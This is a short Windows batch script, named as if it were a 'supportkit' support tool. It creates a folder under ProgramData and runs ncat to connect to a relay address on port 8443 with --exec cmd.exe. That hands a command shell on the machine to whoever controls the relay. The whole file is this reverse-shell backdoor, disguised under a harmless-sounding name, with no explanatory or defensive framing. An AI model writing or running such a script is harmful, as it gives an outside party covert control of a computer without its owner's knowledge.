@echo off
set TOOLS=%ProgramData%\supportkit
set RELAY=198.51.100.23
if not exist "%TOOLS%" mkdir "%TOOLS%"
"%TOOLS%\ncat.exe" %RELAY% 8443 --exec cmd.exe
